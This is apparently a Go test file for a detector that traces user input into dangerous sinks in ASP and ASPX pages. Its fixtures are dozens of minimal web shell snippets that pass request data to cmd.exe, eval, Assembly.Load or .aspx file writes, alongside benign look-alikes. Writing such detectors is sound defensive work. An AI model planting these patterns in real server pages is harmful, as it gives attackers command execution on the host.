package pageflow

import (
	"slices"
	"strings"
	"testing"
)

// Each case is a small page and the sink kinds it must report (nil: none). They pin down the
// flows the corpus exercises only once, and the benign look-alikes that must stay silent.
var cases = []struct {
	name string
	page string
	want []string
}{
	// --- sources and propagation ---
	{"request index", `<%@ Page Language="C#" %><% Process.Start("cmd.exe", Request["c"]); %>`, []string{KindProcessStart}},
	{"context request", `<%@ WebHandler Language="C#" Class="H" %>
public class H : IHttpHandler { public void ProcessRequest(HttpContext context) {
  File.WriteAllText(@"C:\x.aspx", context.Request.Form["b"]); } }`, []string{KindFileWrite}},
	{"httpcontext current", `<%@ Page Language="C#" %><% var s = HttpContext.Current.Request.Headers["X-A"]; Assembly.Load(Convert.FromBase64String(s)); %>`, []string{KindAssemblyLoad}},
	{"null conditional", `<%@ Page Language="C#" %><% var s = Request?.Form["a"]; Process.Start(s); %>`, []string{KindProcessStart}},
	{"use before definition in text", `<%@ Page Language="C#" %><script runat="server">
void Go() { Process.Start("cmd.exe", "/c " + cmd); }
string cmd;
void Page_Load() { cmd = Request.QueryString["q"]; Go(); }
</script>`, []string{KindProcessStart}},
	{"page method parameter", `<%@ Page Language="C#" %><% Run(Request.Form["c"]); %>
<script runat="server">void Run(string line) { Process.Start("cmd.exe", "/c " + line); }</script>`, []string{KindProcessStart}},
	{"second parameter only", `<%@ Page Language="C#" %><script runat="server">
void Save(string name, string body) { File.WriteAllText(Server.MapPath("~/log.txt"), name); }
void Page_Load() { Save("fixed", Request.Form["b"]); }
</script>`, nil},
	{"decoder chain", `<%@ Page Language="C#" %><% byte[] b = Convert.FromBase64String(Request.Form["d"]); string s = Encoding.UTF8.GetString(Decrypt(b, key)); Process.Start("cmd.exe", s); %>`, []string{KindProcessStart}},
	{"interpolated string", `<%@ Page Language="C#" %><% Process.Start("cmd.exe", $"/c {Request["c"]} > out.txt"); %>`, []string{KindProcessStart}},
	{"foreach over form keys", `<%@ Page Language="C#" %><% foreach (string k in Request.Form.AllKeys) { File.Delete(k); File.AppendAllText(@"C:\inetpub\a.aspx", k); } %>`, []string{KindFileWrite}},
	{"stream copy into buffer", `<%@ Page Language="C#" %><% var ms = new MemoryStream(); Request.InputStream.CopyTo(ms); Assembly.Load(ms.ToArray()); %>`, []string{KindAssemblyLoad}},
	{"textbox control", `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + txt.Text); }</script>
<form runat="server"><asp:TextBox id="txt" runat="server" /></form>`, []string{KindProcessStart}},
	{"hidden input control", `<%@ Page Language="C#" %><script runat="server">void Go() { File.WriteAllText(Server.MapPath("a.aspx"), h.Value); }</script>
<input type="hidden" id="h" runat="server" />`, []string{KindFileWrite}},
	{"declared textbox", `<%@ Page Language="C#" %><script runat="server">protected TextBox box; void Go() { Process.Start(box.Text); }</script>`, []string{KindProcessStart}},
	{"label text is not input", `<%@ Page Language="C#" %><script runat="server">void Go() { Process.Start("x.exe", lbl.Text); }</script><asp:Label ID="lbl" runat="server" />`, nil},
	{"webmethod vb", `<%@ WebService Language="VB" Class="S" %>
Imports System.Web.Services
Public Class S
    <WebMethod()> _
    Public Function Run(ByVal c As String) As String
        Return System.Diagnostics.Process.Start("cmd.exe", "/c " & c).StandardOutput.ReadToEnd()
    End Function
End Class`, []string{KindProcessStart}},
	{"webmethod attribute line", `<%@ WebService Language="C#" Class="S" %>
public class S : WebService {
  [WebMethod]
  [ScriptMethod]
  public void Put(string path, string data) { File.WriteAllText(path, data); }
}`, []string{KindFileWrite}},
	{"jscript typed var", `<%@ Page Language="JScript" %><% var s : String = Request.Form["c"]; eval(s, "unsafe"); %>`, []string{KindEval}},
	{"unicode escapes", `<%@ Page Language="C#" %><% var \u0063 = \u0052equest.Form["x"]; System.Diagnostics.\u0050roc\u00ADess.\u0053tart("cmd", \u0063); %>`, []string{KindProcessStart}},
	{"vb case insensitive", `<%@ Page Language="VB" %><% DIM X AS STRING = REQUEST.FORM("A") : SYSTEM.IO.FILE.WRITEALLTEXT("C:\a.aspx", x) %>`, []string{KindFileWrite}},

	// --- sinks ---
	{"vbscript eval statement", `<%@ Language=VBScript %><% eval request("p") %>`, []string{KindEval}},
	{"executeglobal", `<% ExecuteGlobal Request.Form("c") %>`, []string{KindEval}},
	{"jscript evaluate reflection", `<%@ Page Language="C#" %><% var n = "JScript" + "Evaluate"; var m = t.GetMethod(n); m.Invoke(null, new object[] { Request["p"], "unsafe" }); %>`, []string{KindEval}},
	{"getmethod invoke", `<%@ Page Language="C#" %><% a.GetType("X").GetMethod("Run").Invoke(null, new object[] { Request.Form["a"] }); %>`, []string{KindAssemblyLoad}},
	{"activator", `<%@ Page Language="C#" %><% Activator.CreateInstance(Type.GetType(Request["t"])); %>`, []string{KindAssemblyLoad}},
	{"vb escaped assembly", `<%@ Page Language="VB" %><% [Assembly].Load(Convert.FromBase64String(Request.Form("a"))) %>`, []string{KindAssemblyLoad}},
	{"psi initializer", `<%@ Page Language="C#" %><% var p = new ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + Request["c"] }; %>`, []string{KindProcessStart}},
	{"vb with block", `<%@ Page Language="VB" %><script runat="server">
Sub Go()
    Dim p As New Process()
    With p.StartInfo
        .FileName = "cmd.exe"
        .Arguments = "/c " & Request.Form("c")
    End With
    p.Start()
End Sub
</script>`, []string{KindProcessStart}},
	{"process object start", `<%@ Page Language="C#" %><% var p = new Process(); p.StartInfo = MakeInfo(Request["c"]); p.Start(); %>`, []string{KindProcessStart}},
	{"vbscript shell no parens", `<% Set sh = CreateObject("WScript.Shell")
sh.Run "cmd /c " & Request("c"), 0, True %>`, []string{KindProcessStart}},
	{"jscript activex", `<%@ Language="JScript" %><% var sh = new ActiveXObject("WScript." + "Shell"); sh.Exec("cmd /c " + Request.Form("c")); %>`, []string{KindProcessStart}},
	{"shell application", `<% CreateObject("Shell.Application").ShellExecute "cmd.exe", "/c " & Request("c"), "", "open", 0 %>`, []string{KindProcessStart}},
	{"vb.net shell", `<%@ Page Language="VB" %><% Shell("cmd /c " & Request("c")) %>`, []string{KindProcessStart}},
	{"fso create text file", `<% Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath(Request("n")))
f.Write Request("b") %>`, []string{KindFileWrite}},
	{"fso open for writing", `<% Set f = fso.OpenTextFile(Server.MapPath(Request("n")), 2, True) %>`, []string{KindFileWrite}},
	{"fso open for reading", `<% Set f = fso.OpenTextFile(Server.MapPath(Request("n")), 1)
Response.Write f.ReadAll %>`, nil},
	{"adodb stream", `<% Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.SaveToFile Server.MapPath("up.asp"), 2 %>`, []string{KindFileWrite}},
	{"writer on fixed path", `<%@ Page Language="C#" %><% using (var w = new StreamWriter(Server.MapPath("~/x.aspx"))) { w.Write(Request.Form["c"]); } %>`, []string{KindFileWrite}},
	{"file open create", `<%@ Page Language="C#" %><% var fs = File.Open(Request["p"], FileMode.Create); %>`, []string{KindFileWrite}},
	{"filestream create", `<%@ Page Language="C#" %><% var fs = new FileStream(Request["p"], FileMode.Create); %>`, []string{KindFileWrite}},
	{"download file", `<%@ Page Language="C#" %><% new WebClient().DownloadFile(Request["u"], Server.MapPath("x.aspx")); %>`, []string{KindFileWrite}},
	{"code file", `using System;
using System.Web;
public partial class Admin : System.Web.UI.Page {
    protected void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", Request["c"]); }
}`, []string{KindProcessStart}},
	{"out argument", `<%@ Page Language="C#" %><% string plain; Unwrap(Request.Form["d"], out plain); Assembly.Load(Convert.FromBase64String(plain)); %>`, []string{KindAssemblyLoad}},
	{"several kinds", `<%@ Page Language="C#" %><% var c = Request["c"]; Process.Start(c); File.WriteAllText(c, c); Assembly.Load(c); %>`, []string{KindAssemblyLoad, KindFileWrite, KindProcessStart}},

	// --- benign look-alikes ---
	{"fixed process", `<%@ Page Language="C#" %><% Process.Start("ipconfig.exe", "/all"); %>`, nil},
	{"parsed number", `<%@ Page Language="C#" %><% int n = int.Parse(Request["n"]); Process.Start("report.exe", "/n " + n); %>`, nil},
	{"sanitiser call", `<%@ Page Language="C#" %><% Process.Start("report.exe", "/n " + Convert.ToInt32(Request["n"])); %>`, nil},
	{"compared only", `<%@ Page Language="C#" %><% Process.Start("x.exe", Request["full"] == "1" ? "/all" : ""); %>`, nil},
	{"measured only", `<%@ Page Language="C#" %><% if (Request.Files.Count > 0) Process.Start("x.exe", Request.Form["a"].Length.ToString()); %>`, nil},
	{"csharp data binding", `<%@ Page Language="C#" %><%# Eval("Name") %><%# DataBinder.Eval(Container.DataItem, Request["f"]) %>`, nil},
	{"jscript data binding", `<%@ Page Language="JScript" %><%# Eval(Request["f"]) %>`, nil},
	{"client eval", `<%@ Page Language="C#" %><script type="text/javascript">var s = '<%= Server.HtmlEncode(Request["s"]) %>'; eval("(" + s + ")");</script>`, nil},
	{"adodb execute", `<% Set rs = conn.Execute("SELECT * FROM t WHERE id=" & Request("id")) : cmd.Execute %>`, nil},
	{"execute nonquery", `<%@ Page Language="C#" %><% cmd.CommandText = Request["q"]; cmd.ExecuteNonQuery(); %>`, nil},
	{"line comment", `<%@ Page Language="C#" %><% // Process.Start(Request["c"]);
%>`, nil},
	{"block comment", `<%@ Page Language="JScript" %><% /* eval(Request["c"]) */ %>`, nil},
	{"vb comment", `<%@ Page Language="VB" %><% ' Process.Start(Request("c"))
REM Execute(Request("c"))
%>`, nil},
	{"server comment", `<%@ Page Language="JScript" %><%-- <% eval(Request["c"]) %> --%>`, nil},
	{"string only", `<%@ Page Language="C#" %><% Response.Write("Process.Start(Request[\"c\"])"); %>`, nil},
	{"read file", `<%@ Page Language="C#" %><% Response.Write(File.ReadAllText(Server.MapPath(Request["f"]))); var fs = new FileStream(Request["f"], FileMode.Open, FileAccess.Read); %>`, nil},
	{"fixed assembly", `<%@ Page Language="C#" %><% Assembly.Load("System.Web, Version=4.0.0.0"); Assembly.LoadFrom(Server.MapPath("~/bin/a.dll")); %>`, nil},
	{"upload server name", `<%@ Page Language="C#" %><% string ext = Path.GetExtension(fu.FileName); fu.SaveAs(Server.MapPath("~/App_Data/" + Guid.NewGuid() + ext)); %>`, nil},
	{"csharp execute method", `<%@ Page Language="C#" %><% Execute(Request["a"]); %>`, nil},
	{"unterminated block", `<%@ Page Language="JScript" %><% eval(Request["c"])`, nil},
	{"unterminated server script", `<script language="JScript" runat="server">eval(Request["c"])`, nil},
	{"client script", `<script language="JScript">eval(Request["c"])</script>`, nil},
	{"tryparse out", `<%@ Page Language="C#" %><% int n; int.TryParse(Request["n"], out n); Process.Start("report.exe", "/n " + n); %>`, nil},
	{"framework object not tainted", `<%@ Page Language="C#" %><% Response.Cookies["lang"].Value = Request["lang"]; using (var w = new StreamWriter(Response.OutputStream)) { w.Write("ok"); } %>`, nil},
	{"html mentioning code", "<html><body><pre>public class Demo { void F() { Process.Start(Request[\"c\"]); } }</pre></body></html>", nil},
	{"plain javascript file", `var x = document.getElementById("a").value; eval(x); function Request(){}`, nil},
}

func TestAnalyze(t *testing.T) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := Analyze([]byte(c.page))
			checkInvariants(t, c.name, []byte(c.page), r)
			if !slices.Equal(r.Kinds, c.want) {
				t.Errorf("kinds = %v, want %v; sinks %+v", r.Kinds, c.want, r.Sinks)
			}
		})
	}
}

func TestEvidence(t *testing.T) {
	page := "<%@ Page Language=\"C#\" %>\r\n<%\r\n  var c = Request[\"c\"];\r\n\t  Process.Start(\"cmd.exe\", c);   \r\n%>\r\n"
	r := Analyze([]byte(page))
	if len(r.Sinks) != 1 {
		t.Fatalf("sinks = %+v", r.Sinks)
	}
	if s := r.Sinks[0]; s.Line != 4 || s.Evidence != `Process.Start("cmd.exe", c);` {
		t.Errorf("sink = %+v", s)
	}

	// The first sink of a kind in page order is the one reported, even when a later pass finds
	// it (here the variable is tainted after its use in the text).
	page = "<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid A() { Process.Start(x); }\nvoid B() { Process.Start(Request[\"y\"]); }\nstring x;\nvoid C() { x = Request[\"x\"]; }\n</script>"
	r = Analyze([]byte(page))
	if len(r.Sinks) != 1 || r.Sinks[0].Line != 2 {
		t.Errorf("sinks = %+v, want line 2", r.Sinks)
	}

	// A long line is cut around the sink; binary bytes become '?' and control characters spaces.
	long := "<%@ Page Language=\"C#\" %><% " + strings.Repeat("x = 1; ", 100) + "\x01\xff Process.Start(Request[\"c\"]); " + strings.Repeat("y = 2; ", 100) + "%>"
	r = Analyze([]byte(long))
	if len(r.Sinks) != 1 {
		t.Fatalf("sinks = %+v", r.Sinks)
	}
	ev := r.Sinks[0].Evidence
	if len(ev) > maxEvidence || !strings.Contains(ev, "Process.Start(Request") || !strings.Contains(ev, "? Process") {
		t.Errorf("evidence = %q", ev)
	}
}

// TestNoSharedState runs Analyze concurrently (for -race) and checks answers do not leak from
// one page into another.
func TestNoSharedState(t *testing.T) {
	done := make(chan bool)
	for g := 0; g < 8; g++ {
		go func() {
			ok := true
			for i := 0; i < 50; i++ {
				c := cases[(g+i)%len(cases)]
				if !slices.Equal(Analyze([]byte(c.page)).Kinds, c.want) {
					ok = false
				}
			}
			done <- ok
		}()
	}
	for g := 0; g < 8; g++ {
		if !<-done {
			t.Error("concurrent Analyze gave a different answer")
		}
	}
}

func TestKeywordTable(t *testing.T) {
	for k := range keywords {
		if len(k) > maxKwLen || strings.ToLower(k) != k {
			t.Errorf("keyword %q: longer than maxKwLen or not lower case", k)
		}
	}
}
